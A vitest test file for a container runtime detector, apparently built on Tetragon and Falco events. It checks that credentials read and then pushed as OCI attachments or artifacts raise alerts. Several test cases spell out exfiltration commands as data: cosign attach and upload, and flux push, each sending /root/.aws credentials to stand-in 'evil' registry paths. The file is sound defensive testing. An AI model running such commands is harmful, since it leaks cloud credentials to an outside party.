/**
 * Registry clients that store a local file as it is beside an image (cosign's attach and upload, flux's
 * `push artifact`): a few KiB of credentials, far under the egress threshold, were seen by nothing (found by
 * red-team review). Each is a table push now, judged on the reads before it.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';
import { PUSH_IP as REGISTRY_IP, secretThenPush } from './secret-then-push.js';

/** A CI container reads a credential, then `binary args` sends a few KiB (far under the egress threshold). */
const secretThen = (binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') =>
  secretThenPush(binary, args, source, 6 * 1024);

describe('files uploaded as OCI attachments or artifacts', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`cosign attach sbom with a credential as the SBOM is high (${source})`, () => {
      const alerts = secretThen(
        '/usr/local/bin/cosign',
        'attach sbom --sbom /root/.aws/credentials ghcr.io/evil/x:1',
        source,
      );
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'cosign', destination: 'ghcr.io' },
      ]);
      expect(alerts[0]!.push.remote).toBe('ghcr.io/evil/x:1');
    });
  }

  it('cosign upload blob is high', () => {
    const alerts = secretThen('/usr/local/bin/cosign', 'upload blob -f /root/.aws/credentials quay.io/evil/x:1');
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'cosign', destination: 'quay.io' },
    ]);
  });

  it('flux push artifact of a directory is high', () => {
    const alerts = secretThen(
      '/usr/local/bin/flux',
      'push artifact oci://ghcr.io/evil/cfg:1 --path=/root/.aws --source=https://github.com/acme/app --revision=main@sha1:0',
    );
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'flux', destination: 'ghcr.io' },
    ]);
  });

  it('a release job signing with its key stays quiet (cosign sign is no push: the key read is routine)', () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'release-1', name: 'job' });
    const sh = s.init(c);
    const sign = s.exec(c, '/usr/local/bin/cosign', 'sign --yes --key /work/cosign.key ghcr.io/acme/app@sha256:0f', {
      parent: sh,
    });
    s.read(sign, '/work/cosign.key', 400).wait(40).connect(sign, REGISTRY_IP, 443).wait(10);
    s.send(sign, REGISTRY_IP, 443, 8 * 1024)
      .wait(200)
      .exit(sign);
    expect(run(s.events).alerts).toEqual([]);
  });
});
